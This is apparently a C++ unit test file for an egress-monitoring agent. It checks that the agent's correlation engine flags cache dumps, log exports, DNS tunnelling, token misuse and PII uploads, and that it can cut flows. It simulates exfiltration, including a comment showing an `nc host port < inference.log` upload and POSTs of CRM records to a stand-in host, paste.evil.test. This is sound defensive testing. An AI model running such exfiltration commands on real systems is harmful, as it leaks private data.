// The engine correlating inputs into findings: the same paths the live agent and a replay take.
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "agent/detect/classify/sensitive.h"
#include "agent/engine/engine.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace sluice::engine {
namespace {

using ::testing::HasSubstr;

class CollectingSink : public output::AlertSink {
 public:
  absl::Status Write(const detect::Alert& a) override {
    alerts.push_back(a);
    return absl::OkStatus();
  }
  absl::Status Flush() override { return absl::OkStatus(); }
  std::vector<std::string> Detectors() const {
    std::vector<std::string> out;
    for (const auto& a : alerts) out.push_back(a.detector);
    return out;
  }
  std::vector<detect::Alert> alerts;
};

class CollectingRecorder : public InputRecorder {
 public:
  void Record(const Input& input) override { inputs.push_back(input); }
  std::vector<Input> inputs;
};

constexpr char kRules[] = R"(version: 1
crm:
  hosts: ["*.my.salesforce.com"]
sinks:
  - name: logs
    kind: log
    cidr: 10.40.0.9/32
files:
  - class: inference-cache
    paths: [/var/cache/llm/]
  - class: inference-log
    paths: [/var/log/llm/]
workloads:
  - name: sync
    role: crm-sync
    selector:
      cgroup: "/crm"
    egress:
      allow:
        - host: "*.my.salesforce.com"
          ports: [443]
        - cidr: 10.30.0.5/32
    budgets:
      - to: 10.30.0.5/32
        bytes: 1MiB
        window: 1h
  - name: llm
    role: llm-inference
    selector:
      cgroup: "/llm"
    egress:
      allow:
        - cidr: 10.30.0.5/32
  - name: learner
    mode: learn
    selector:
      cgroup: "/learn"
)";

constexpr uint32_t kPid = 5000000;  // above PID_MAX_LIMIT: no /proc lookup finds it
constexpr uint64_t kCrm = 77, kLlm = 78, kLearn = 79;
constexpr uint64_t kSec = 1000000000ull;

std::array<uint8_t, 16> V4(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
  std::array<uint8_t, 16> x{};
  x[10] = x[11] = 0xff;
  x[12] = a;
  x[13] = b;
  x[14] = c;
  x[15] = d;
  return x;
}

class CorrelationTest : public ::testing::Test {
 protected:
  void SetUp() override { Make(/*trust_kernel=*/true); }

  void Make(bool trust_kernel) {
    auto loaded = detect::ParseRules(kRules, "correlation_test.yaml");
    ASSERT_TRUE(loaded.ok()) << (loaded.errors.empty() ? "" : loaded.errors[0].ToString());
    processes_.DisableProcLookup();
    EngineOptions o;
    o.trust_kernel_workload = trust_kernel;
    o.fingerprint_key = std::string(32, 'k');
    engine_ = std::make_unique<Engine>(loaded.rules, &processes_, &cgroups_, nullptr, &sink_, o);
    engine_->OnInput(ClockSync{0});
    engine_->OnInput(CgroupSnapshot{kCrm, "/crm"});
    engine_->OnInput(CgroupSnapshot{kLlm, "/llm"});
    engine_->OnInput(CgroupSnapshot{kLearn, "/learn"});
  }

  void Process(uint32_t pid, uint64_t cgroup, const std::string& exe, uint32_t ppid = 1) {
    engine_->OnInput(ProcessSnapshot{pid, ppid, 0, exe, exe.substr(exe.rfind('/') + 1), exe,
                                     cgroup, 1, 1});
  }

  events::Flow FlowOf(uint32_t pid, uint64_t cgroup, uint32_t workload,
                      std::array<uint8_t, 16> daddr, uint16_t port, uint64_t out) {
    events::Flow f;
    f.cgroup_id = cgroup;
    f.pid = pid;
    f.workload_id = workload;
    f.family = SLUICE_AF_INET;
    f.dport = port;
    f.protocol = 6;
    f.daddr = daddr;
    f.bytes_out = out;
    return f;
  }

  static events::ConnectEvent ConnectOf(uint32_t pid, uint64_t cgroup, uint32_t workload,
                                        std::array<uint8_t, 16> daddr, uint16_t port,
                                        uint8_t protocol, uint64_t ts) {
    events::ConnectEvent c{};
    c.hdr = {SLUICE_EV_CONNECT, ts, pid, pid, cgroup};
    c.workload_id = workload;
    c.dport = port;
    c.protocol = protocol;
    c.daddr = daddr;
    return c;
  }

  void Open(uint64_t cookie, const events::Flow& f, uint64_t ts) {
    engine_->OnInput(events::FlowEvent{{SLUICE_EV_FLOW, ts, f.pid, f.pid, f.cgroup_id}, cookie,
                                       SLUICE_FLOW_CONNECTED, f});
  }

  void Read(uint32_t pid, uint64_t ino, uint32_t class_id, uint32_t workload, uint64_t bytes,
            uint64_t ts) {
    engine_->OnInput(FileTotals{ts, pid, 8, ino, bytes, 0, 1, class_id, workload, false});
  }

  void Dns(uint64_t cgroup, const std::string& question, std::array<uint8_t, 16> addr,
           uint64_t ts) {
    DnsObservation o;
    o.hdr = {SLUICE_EV_DNS, ts, 0, 0, cgroup};
    o.message.response = true;
    o.message.questions = {question};
    events::DnsAnswer a;
    a.name = question;
    a.type = events::kDnsTypeA;
    a.ttl = 300;
    a.addr = addr;
    o.message.answers = {a};
    engine_->OnInput(o);
  }

  state::ProcessTable processes_;
  state::CgroupIndex cgroups_{"/nonexistent-cgroup-root"};
  CollectingSink sink_;
  std::unique_ptr<Engine> engine_;
};

TEST_F(CorrelationTest, CacheReadThenUploadIsACacheDump) {
  Process(kPid, kLlm, "/usr/bin/python3");
  Read(kPid, 1, 1, 1, 8 << 20, 10 * kSec);
  const events::Flow f = FlowOf(kPid, kLlm, 1, V4(203, 0, 113, 9), 443, 0);
  Open(5, f, 11 * kSec);
  EXPECT_TRUE(sink_.alerts.empty());
  // The upload under way, as the reaper reads it from the kernel map.
  engine_->OnInput(FlowTotals{12 * kSec, 5, FlowOf(kPid, kLlm, 1, V4(203, 0, 113, 9), 443, 6 << 20),
                              false});
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const detect::Alert& a = sink_.alerts[0];
  EXPECT_EQ(a.detector, "cache_dump");
  EXPECT_EQ(a.workload.name, "llm");
  EXPECT_EQ(a.process.exe, "/usr/bin/python3");
  ASSERT_EQ(a.files.size(), 1u);
  EXPECT_EQ(a.files[0].file_class, "inference-cache");
  EXPECT_EQ(a.time_ms, 12000);
  // The same flow growing further, and its close, do not report it again.
  engine_->OnInput(FlowTotals{13 * kSec, 5, FlowOf(kPid, kLlm, 1, V4(203, 0, 113, 9), 443, 9 << 20),
                              true});
  EXPECT_EQ(sink_.alerts.size(), 1u);
}

// A shell started into the workload's cgroup by a process elsewhere (the runner, cgroup 5),
// then a child of that shell: one process tree (ProcessEntry::tree) rooted at the shell.
void StartTree(Engine& engine, uint32_t shell, uint32_t child, uint64_t cgroup, uint64_t ts,
               const std::string& child_exe) {
  events::ExecEvent sh;
  sh.hdr = {SLUICE_EV_EXEC, ts, shell, shell, cgroup};
  sh.ppid = 4999999;  // the runner: not in this cgroup
  sh.filename = "/bin/sh";
  engine.OnInput(sh);
  engine.OnInput(events::ForkEvent{{SLUICE_EV_FORK, ts + 1, shell, shell, cgroup}, child, 0});
  events::ExecEvent ex;
  ex.hdr = {SLUICE_EV_EXEC, ts + 2, child, child, cgroup};
  ex.ppid = shell;
  ex.filename = child_exe;
  engine.OnInput(ex);
}

TEST_F(CorrelationTest, ASendJudgedBeforeItsReadsArriveIsJudgedAgainWhenTheyDo) {
  // `nc host port < inference.log`: the flow closes, and only on the reaper's next pass do the
  // read totals of the short-lived nc arrive.
  StartTree(*engine_, kPid, kPid + 1, kLlm, 10 * kSec, "/usr/bin/nc");
  engine_->OnInput(FlowTotals{11 * kSec, 9, FlowOf(kPid + 1, kLlm, 1, V4(203, 0, 113, 9), 9000,
                                                  1 << 20), true});
  EXPECT_TRUE(sink_.alerts.empty());
  Read(kPid + 1, 2, 2, 1, 1 << 20, 12 * kSec);
  ASSERT_EQ(sink_.Detectors(), std::vector<std::string>{"log_export"});
  EXPECT_EQ(sink_.alerts[0].process.exe, "/usr/bin/nc");
  EXPECT_EQ(sink_.alerts[0].files.size(), 1u);
  // More reads later judge it no more.
  Read(kPid + 1, 2, 2, 1, 2 << 20, 13 * kSec);
  EXPECT_EQ(sink_.alerts.size(), 1u);
  // Past the rejudge horizon (5 s after the close) a late read is no longer tied to the flow.
  StartTree(*engine_, kPid + 10, kPid + 11, kLlm, 20 * kSec, "/usr/bin/nc");
  engine_->OnInput(FlowTotals{21 * kSec, 10, FlowOf(kPid + 11, kLlm, 1, V4(198, 51, 100, 7), 9000,
                                                   1 << 20), true});
  Read(kPid + 11, 2, 2, 1, 1 << 20, 27 * kSec);
  EXPECT_EQ(sink_.alerts.size(), 1u) << sink_.alerts.back().title;
}

TEST_F(CorrelationTest, FileDetectorsCorrelateWithinAProcessTree) {
  // Two jobs in the same workload: one reads the cache (and keeps it), the other ships logs.
  StartTree(*engine_, kPid, kPid + 1, kLlm, 10 * kSec, "/usr/bin/cat");
  Read(kPid + 1, 1, 1, 1, 8 << 20, 11 * kSec);
  StartTree(*engine_, kPid + 2, kPid + 3, kLlm, 12 * kSec, "/usr/bin/nc");
  Read(kPid + 3, 2, 2, 1, 1 << 20, 13 * kSec);
  engine_->OnInput(FlowTotals{14 * kSec, 11, FlowOf(kPid + 3, kLlm, 1, V4(203, 0, 113, 9), 9000,
                                                   1 << 20), true});
  // The log job's upload is a log export, not a dump of the cache the other job read.
  ASSERT_EQ(sink_.Detectors(), std::vector<std::string>{"log_export"});
  ASSERT_EQ(sink_.alerts[0].files.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].files[0].file_class, "inference-log");
  // A sibling in the cache job's tree sending is that tree's cache dump.
  engine_->OnInput(events::ForkEvent{{SLUICE_EV_FORK, 15 * kSec, kPid, kPid, kLlm}, kPid + 4, 0});
  engine_->OnInput(FlowTotals{16 * kSec, 12, FlowOf(kPid + 4, kLlm, 1, V4(203, 0, 113, 9), 443,
                                                   6 << 20), true});
  ASSERT_EQ(sink_.alerts.size(), 2u);
  EXPECT_EQ(sink_.alerts[1].detector, "cache_dump");
  // A process of unknown lineage (seeded from /proc) is judged against the whole workload.
  Process(kPid + 5, kLlm, "/usr/bin/python3");
  engine_->OnInput(FlowTotals{17 * kSec, 13, FlowOf(kPid + 5, kLlm, 1, V4(198, 51, 100, 7), 443,
                                                   6 << 20), true});
  ASSERT_EQ(sink_.alerts.size(), 4u);
}

TEST_F(CorrelationTest, InferenceServerAnsweringClientsIsQuiet) {
  Process(kPid, kLlm, "/usr/bin/python3");
  Read(kPid, 1, 1, 1, 8 << 20, 10 * kSec);
  events::Flow f = FlowOf(kPid, kLlm, 1, V4(203, 0, 113, 9), 50000, 64 << 20);
  f.flags = SLUICE_FLOW_F_INBOUND;
  engine_->OnInput(FlowTotals{12 * kSec, 6, f, true});
  EXPECT_TRUE(sink_.alerts.empty()) << sink_.alerts[0].title;
}

TEST_F(CorrelationTest, LogsToTheLogSinkAreQuietElsewhereAnExport) {
  Process(kPid, kLlm, "/usr/bin/python3");
  Read(kPid, 2, 2, 1, 1 << 20, 10 * kSec);
  engine_->OnInput(FlowTotals{12 * kSec, 7, FlowOf(kPid, kLlm, 1, V4(10, 40, 0, 9), 514, 1 << 20),
                              true});
  EXPECT_TRUE(sink_.alerts.empty());
  engine_->OnInput(FlowTotals{13 * kSec, 8, FlowOf(kPid, kLlm, 1, V4(10, 30, 0, 5), 443, 1 << 20),
                              true});
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "log_export");
}

TEST_F(CorrelationTest, TarOfTheCacheIsStaging) {
  Process(kPid, kLlm, "/usr/bin/tar");
  Read(kPid, 1, 1, 1, 4 << 20, 10 * kSec);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "archive_staging");
  Read(kPid, 3, 1, 1, 4 << 20, 11 * kSec);  // once per process
  EXPECT_EQ(sink_.alerts.size(), 1u);
}

TEST_F(CorrelationTest, ResolvedNamesDecideHostAllowEntries) {
  Process(kPid, kCrm, "/usr/bin/python3");
  Dns(kCrm, "acme.my.salesforce.com", V4(198, 51, 100, 4), 1 * kSec);
  events::ConnectEvent c = ConnectOf(kPid, kCrm, 0, V4(198, 51, 100, 4), 443, 6, 2 * kSec);
  engine_->OnInput(c);
  EXPECT_TRUE(sink_.alerts.empty());
  Dns(kCrm, "paste.evil.test", V4(198, 51, 100, 66), 3 * kSec);
  c.daddr = V4(198, 51, 100, 66);
  engine_->OnInput(c);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "unexpected_egress");
  EXPECT_THAT(sink_.alerts[0].destination.names, ::testing::ElementsAre("paste.evil.test"));
}

// An address no watched DNS answer named (a hosts file, DNS over HTTPS): the host entry decides
// by the server name of the flow's ClientHello, captured by the sensor from the first segment.
TEST_F(CorrelationTest, ServerNameDecidesAHostEntryWhenNoDnsAnswerNamedThePeer) {
  Process(kPid, kCrm, "/usr/bin/python3");
  auto connect = [&](std::array<uint8_t, 16> daddr, uint64_t ts) {
    events::ConnectEvent c = ConnectOf(kPid, kCrm, 0, daddr, 443, 6, ts);
    c.verdict = SLUICE_VERDICT_WOULD_DENY;
    engine_->OnInput(c);
  };
  auto hello = [&](uint64_t cookie, std::array<uint8_t, 16> daddr, const std::string& sni,
                   uint64_t ts) {
    Open(cookie, FlowOf(kPid, kCrm, 0, daddr, 443, 0), ts);
    PayloadObservation p;
    p.hdr = {SLUICE_EV_PAYLOAD, ts, kPid, kPid, kCrm};
    p.cookie = cookie;
    p.len = 517;
    p.protocol = sni.empty() ? "unknown" : "tls-record";
    p.sni = sni;
    engine_->OnInput(p);
  };
  // Allowed by its server name: never reported.
  connect(V4(198, 51, 100, 4), 1 * kSec);
  EXPECT_TRUE(sink_.alerts.empty());
  hello(21, V4(198, 51, 100, 4), "acme.my.salesforce.com", 1 * kSec + 5000000);
  // Another name: reported with it, at the hello.
  connect(V4(198, 51, 100, 66), 2 * kSec);
  EXPECT_TRUE(sink_.alerts.empty());
  hello(22, V4(198, 51, 100, 66), "paste.evil.test", 2 * kSec + 5000000);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "unexpected_egress");
  EXPECT_EQ(sink_.alerts[0].sni, "paste.evil.test");
  EXPECT_THAT(sink_.alerts[0].title, HasSubstr("paste.evil.test (198.51.100.66:443)"));
  // First bytes without a server name: none will come; reported at once.
  connect(V4(198, 51, 100, 67), 3 * kSec);
  hello(23, V4(198, 51, 100, 67), "", 3 * kSec + 5000000);
  ASSERT_EQ(sink_.alerts.size(), 2u);
  EXPECT_EQ(sink_.alerts[1].destination.ip, "198.51.100.67");
  // Nothing at all (the flow never sent): reported when the wait (sni_wait_s, 5 s) is over,
  // with the connect's own time.
  connect(V4(198, 51, 100, 68), 4 * kSec);
  Dns(kCrm, "unrelated.example", V4(192, 0, 2, 1), 6 * kSec);
  EXPECT_EQ(sink_.alerts.size(), 2u);
  Dns(kCrm, "unrelated.example", V4(192, 0, 2, 1), 10 * kSec);
  ASSERT_EQ(sink_.alerts.size(), 3u);
  EXPECT_EQ(sink_.alerts[2].destination.ip, "198.51.100.68");
  EXPECT_EQ(sink_.alerts[2].time_ms, engine_->EpochMs(4 * kSec));
  // A name a DNS answer gave and no entry allows is judged at once, whatever the hello says.
  Dns(kCrm, "paste2.evil.test", V4(198, 51, 100, 69), 11 * kSec);
  connect(V4(198, 51, 100, 69), 11 * kSec);
  ASSERT_EQ(sink_.alerts.size(), 4u);
  // Shutdown judges what still waits.
  connect(V4(198, 51, 100, 70), 12 * kSec);
  EXPECT_EQ(sink_.alerts.size(), 4u);
  engine_->FlushAlerts();
  ASSERT_EQ(sink_.alerts.size(), 5u);
  EXPECT_EQ(sink_.alerts[4].destination.ip, "198.51.100.70");
}

TEST_F(CorrelationTest, CrmRecordsToANonCrmHostInTls) {
  Process(kPid, kCrm, "/usr/bin/python3");
  Open(9, FlowOf(kPid, kCrm, 0, V4(203, 0, 113, 9), 443, 0), 1 * kSec);
  TlsObservation t;
  t.hdr = {SLUICE_EV_TLS, 2 * kSec, kPid, kPid, kCrm};
  t.cookie = 9;
  t.direction = SLUICE_TLS_DIR_WRITE;
  t.workload_id = 0;
  t.protocol = "http1-request";
  t.http_method = "POST";
  t.http_path = "/upload";
  t.data = {{"crm_record_id", 25, {"00112233aabbccdd"}}};
  engine_->OnInput(t);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "pii_egress");
  EXPECT_EQ(sink_.alerts[0].severity, detect::Severity::kCritical);
  EXPECT_THAT(sink_.alerts[0].description, HasSubstr("POST /upload"));
}

class RecordingSeverer : public enforce::FlowSeverer {
 public:
  absl::Status Sever(uint64_t cookie, uint32_t pid) override {
    calls.emplace_back(cookie, pid);
    return result;
  }
  std::vector<std::pair<uint64_t, uint32_t>> calls;
  absl::Status result = absl::OkStatus();
};

// Enforce mode (DESIGN §6): a severing detector's conviction of an enforce-mode workload cuts
// the flow and says Blocked; under --mode monitor, for a monitor-mode workload, or when the cut
// fails, it says Would block.
TEST(SeverTest, ConvictionsOfEnforceWorkloadsCutTheFlow) {
  constexpr char kEnforceRules[] = R"(version: 1
alerts: {aggregate_window: 0}
workloads:
  - name: armed
    mode: enforce
    selector: {cgroup: /armed}
    egress: {allow: [{cidr: 10.0.0.0/8}]}
  - name: watching
    selector: {cgroup: /watching}
)";
  struct Case {
    bool enforce;
    uint64_t cgroup;
    uint32_t workload;
    absl::Status sever_result;
    const char* want;
    size_t want_calls;
  };
  const Case cases[] = {
      {true, 1, 0, absl::OkStatus(), "Blocked", 1},
      {false, 1, 0, absl::OkStatus(), "Would block", 0},
      {true, 2, 1, absl::OkStatus(), "Would block", 0},
      {true, 1, 0, absl::UnavailableError("map full"), "Would block", 1},
  };
  for (const Case& c : cases) {
    auto loaded = detect::ParseRules(kEnforceRules, "sever.yaml");
    ASSERT_TRUE(loaded.ok());
    state::ProcessTable processes;
    processes.DisableProcLookup();
    state::CgroupIndex cgroups("/nonexistent");
    CollectingSink sink;
    EngineOptions o;
    o.enforce = c.enforce;
    Engine engine(loaded.rules, &processes, &cgroups, nullptr, &sink, o);
    RecordingSeverer severer;
    severer.result = c.sever_result;
    engine.SetSeverer(&severer);
    engine.OnInput(CgroupSnapshot{1, "/armed"});
    engine.OnInput(CgroupSnapshot{2, "/watching"});
    events::Flow f;
    f.cgroup_id = c.cgroup;
    f.pid = kPid;
    f.workload_id = c.workload;
    f.family = SLUICE_AF_INET;
    f.protocol = 6;
    f.dport = 443;
    f.daddr = V4(203, 0, 113, 9);
    engine.OnInput(events::FlowEvent{{SLUICE_EV_FLOW, kSec, kPid, kPid, c.cgroup}, 31,
                                     SLUICE_FLOW_CONNECTED, f});
    TlsObservation t;
    t.hdr = {SLUICE_EV_TLS, 2 * kSec, kPid, kPid, c.cgroup};
    t.cookie = 31;
    t.direction = SLUICE_TLS_DIR_WRITE;
    t.workload_id = c.workload;
    t.protocol = "http1-request";
    t.data = {{"crm_record_id", 3, {"00112233aabbccdd"}}};
    engine.OnInput(t);
    ASSERT_EQ(sink.alerts.size(), 1u) << c.want;
    EXPECT_EQ(sink.alerts[0].detector, "pii_egress");
    EXPECT_EQ(detect::DispositionName(sink.alerts[0].disposition), std::string(c.want));
    ASSERT_EQ(severer.calls.size(), c.want_calls) << c.want;
    if (c.want_calls > 0) {
      EXPECT_EQ(severer.calls[0], std::make_pair(uint64_t{31}, kPid));
      EXPECT_EQ(engine.stats().flows_severed, c.sever_result.ok() ? 1u : 0u);
      EXPECT_EQ(engine.stats().sever_errors, c.sever_result.ok() ? 0u : 1u);
    }
  }
}

TEST_F(CorrelationTest, RawTlsCaptureIsScannedAndOnlyCountsLeaveTheClassifier) {
  Process(kPid, kCrm, "/usr/bin/python3");
  Open(12, FlowOf(kPid, kCrm, 0, V4(203, 0, 113, 9), 443, 0), 1 * kSec);
  std::string body = "POST /paste HTTP/1.1\r\nHost: paste.evil.test\r\n\r\n";
  for (const char* id15 : {"0035e00000Ab1Cd", "0015e00000XyZ12", "00Q5e00000QqRr7"}) {
    body += std::string(id15) + detect::classify::SalesforceIdChecksum(id15) + ",jane.doe@acme.example\n";
  }
  events::TlsEvent tls;
  tls.hdr = {SLUICE_EV_TLS, 2 * kSec, kPid, kPid, kCrm};
  tls.cookie = 12;
  tls.direction = SLUICE_TLS_DIR_WRITE;
  tls.lib = SLUICE_TLS_LIB_OPENSSL;
  tls.workload_id = 0;
  tls.data.assign(body.begin(), body.end());
  tls.len = static_cast<uint32_t>(body.size());
  CollectingRecorder rec;
  engine_->SetRecorder(&rec);
  engine_->OnEvent(tls);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  const detect::Alert& a = sink_.alerts[0];
  EXPECT_EQ(a.detector, "pii_egress");
  uint64_t ids = 0;
  for (const auto& m : a.data) {
    if (m.kind == "crm_record_id") ids = m.count;
    for (const auto& fp : m.fingerprints) EXPECT_EQ(fp.size(), 16u);
  }
  EXPECT_EQ(ids, 3u);
  // What is recorded is the classification: no byte of the payload.
  const auto& recorded = std::get<TlsObservation>(rec.inputs.back());
  EXPECT_EQ(recorded.protocol, "http1-request");
  EXPECT_EQ(recorded.http_path, "/paste");
  EXPECT_EQ(a.description.find("jane.doe"), std::string::npos);
}

TEST_F(CorrelationTest, CrmSyncOfRecordsToTheCrmIsQuietButItsTokenReusedElsewhereIsNot) {
  Process(kPid, kCrm, "/usr/bin/python3");
  Dns(kCrm, "acme.my.salesforce.com", V4(198, 51, 100, 4), 1 * kSec);
  Open(10, FlowOf(kPid, kCrm, 0, V4(198, 51, 100, 4), 443, 0), 2 * kSec);
  TlsObservation t;
  t.hdr = {SLUICE_EV_TLS, 3 * kSec, kPid, kPid, kCrm};
  t.cookie = 10;
  t.direction = SLUICE_TLS_DIR_WRITE;
  t.workload_id = 0;
  t.protocol = "http1-request";
  t.data = {{"crm_record_id", 10000, {}}, {"bearer_token", 1, {"feedfacefeedface"}}};
  engine_->OnInput(t);
  EXPECT_TRUE(sink_.alerts.empty()) << sink_.alerts[0].title;
  // The same token from the inference workload, to the CRM itself.
  Process(kPid + 1, kLlm, "/usr/bin/curl");
  Dns(kLlm, "acme.my.salesforce.com", V4(198, 51, 100, 4), 4 * kSec);
  Open(11, FlowOf(kPid + 1, kLlm, 1, V4(198, 51, 100, 4), 443, 0), 5 * kSec);
  t.hdr = {SLUICE_EV_TLS, 6 * kSec, kPid + 1, kPid + 1, kLlm};
  t.cookie = 11;
  t.workload_id = 1;
  t.data = {{"bearer_token", 1, {"feedfacefeedface"}}};
  engine_->OnInput(t);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "token_misuse");
  EXPECT_THAT(sink_.alerts[0].description, HasSubstr("workload sync"));
}

TEST_F(CorrelationTest, VolumeOverBudgetReportedOnceAtTheCrossing) {
  Process(kPid, kCrm, "/usr/bin/python3");
  for (int i = 0; i < 5; ++i) {
    engine_->OnInput(FlowTotals{(10 + uint64_t(i)) * kSec, 20,
                                FlowOf(kPid, kCrm, 0, V4(10, 30, 0, 5), 6333, (i + 1) * 400000),
                                false});
  }
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "volume_anomaly");
  EXPECT_EQ(sink_.alerts[0].bytes_out, 1200000u);
}

TEST_F(CorrelationTest, EncodedDnsLabelsAreTunnelling) {
  Dns(kLlm, "www.example.com", V4(192, 0, 2, 1), 1 * kSec);
  EXPECT_TRUE(sink_.alerts.empty());
  Dns(kLlm, "mzxw6ytboi2dsnzzgq3tmnbvgq4tsmjrgezdgnbvgy3tqojqgezdg.evil.test", V4(192, 0, 2, 2),
      2 * kSec);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "dns_tunnel");
  EXPECT_EQ(sink_.alerts[0].workload.name, "llm");
}

TEST_F(CorrelationTest, CurlSpawnedByTheInferenceServer) {
  Process(kPid, kLlm, "/usr/bin/python3");
  Process(kPid + 1, kLlm, "/usr/bin/curl", kPid);
  // Even to an allowed peer.
  engine_->OnInput(ConnectOf(kPid + 1, kLlm, 1, V4(10, 30, 0, 5), 443, 6, 2 * kSec));
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "tool_egress");
  EXPECT_THAT(sink_.alerts[0].description, HasSubstr("started by /usr/bin/python3"));
}

TEST_F(CorrelationTest, AToolsNameLookupIsNotItsTransfer) {
  Process(kPid, kLlm, "/usr/bin/python3");
  Process(kPid + 1, kLlm, "/usr/bin/curl", kPid);
  engine_->OnInput(ConnectOf(kPid + 1, kLlm, 1, V4(10, 0, 0, 53), 53, 17, 2 * kSec));
  EXPECT_TRUE(std::none_of(sink_.alerts.begin(), sink_.alerts.end(),
                           [](const auto& a) { return a.detector == "tool_egress"; }));
  engine_->OnInput(ConnectOf(kPid + 1, kLlm, 1, V4(10, 30, 0, 5), 443, 6, 3 * kSec));
  ASSERT_FALSE(sink_.alerts.empty());
  EXPECT_EQ(sink_.alerts.back().detector, "tool_egress");
  EXPECT_EQ(sink_.alerts.back().destination.port, 443);
}

TEST_F(CorrelationTest, PlaintextHttpFromTheSyncWorkload) {
  Process(kPid, kCrm, "/usr/bin/python3");
  Open(30, FlowOf(kPid, kCrm, 0, V4(10, 30, 0, 5), 8080, 0), 1 * kSec);
  events::PayloadEvent p;
  p.hdr = {SLUICE_EV_PAYLOAD, 2 * kSec, kPid, 0, kCrm};
  p.cookie = 30;
  const std::string req = "POST /v1/records HTTP/1.1\r\nHost: vectors\r\n";
  p.data.assign(req.begin(), req.end());
  p.len = 900;
  engine_->OnEvent(p);
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].detector, "plaintext_sync");
  EXPECT_EQ(sink_.alerts[0].app_protocol, "http1-request");
  // A TLS handshake on another flow is not plaintext.
  Open(31, FlowOf(kPid, kCrm, 0, V4(10, 30, 0, 5), 443, 0), 3 * kSec);
  p.cookie = 31;
  p.data = {0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03};
  engine_->OnEvent(p);
  EXPECT_EQ(sink_.alerts.size(), 1u);
}

TEST_F(CorrelationTest, LearnModeProposesWhatItSaw) {
  Process(kPid, kLearn, "/usr/bin/python3");
  Dns(kLearn, "api.partner.example", V4(192, 0, 2, 10), 1 * kSec);
  events::ConnectEvent c = ConnectOf(kPid, kLearn, 2, V4(192, 0, 2, 10), 443, 6, 2 * kSec);
  engine_->OnInput(c);
  c.daddr = V4(192, 0, 2, 11);
  c.dport = 8443;
  engine_->OnInput(c);
  EXPECT_TRUE(sink_.alerts.empty());  // learning is not alerting
  const std::string yaml = engine_->ProposeRules();
  EXPECT_THAT(yaml, HasSubstr("host: api.partner.example"));
  EXPECT_THAT(yaml, HasSubstr("cidr: 192.0.2.11/32"));
  EXPECT_THAT(yaml, HasSubstr("[8443]"));
  // The proposal is itself a valid rule file.
  auto reloaded = detect::ParseRules(yaml, "proposal.yaml");
  EXPECT_TRUE(reloaded.ok()) << (reloaded.errors.empty() ? "" : reloaded.errors[0].ToString())
                             << "\n" << yaml;
}

TEST_F(CorrelationTest, ReplayResolvesWorkloadsFromCgroupsNotKernelIds) {
  Make(/*trust_kernel=*/false);
  Process(kPid, kLlm, "/usr/bin/python3");
  // Workload 0: what the kernel said under other rules.
  engine_->OnInput(ConnectOf(kPid, kLlm, 0, V4(203, 0, 113, 9), 443, 6, 2 * kSec));
  ASSERT_EQ(sink_.alerts.size(), 1u);
  EXPECT_EQ(sink_.alerts[0].workload.name, "llm");
}

TEST_F(CorrelationTest, RecorderSeesEveryInputAfterAPreamble) {
  CollectingRecorder rec;
  Process(kPid, kCrm, "/usr/bin/python3");
  engine_->SetRecorder(&rec);
  ASSERT_FALSE(rec.inputs.empty());
  EXPECT_TRUE(std::holds_alternative<ClockSync>(rec.inputs[0]));
  const size_t preamble = rec.inputs.size();
  Dns(kCrm, "acme.my.salesforce.com", V4(198, 51, 100, 4), 1 * kSec);
  EXPECT_EQ(rec.inputs.size(), preamble + 1);
  EXPECT_TRUE(std::holds_alternative<DnsObservation>(rec.inputs.back()));
}

}  // namespace
}  // namespace sluice::engine
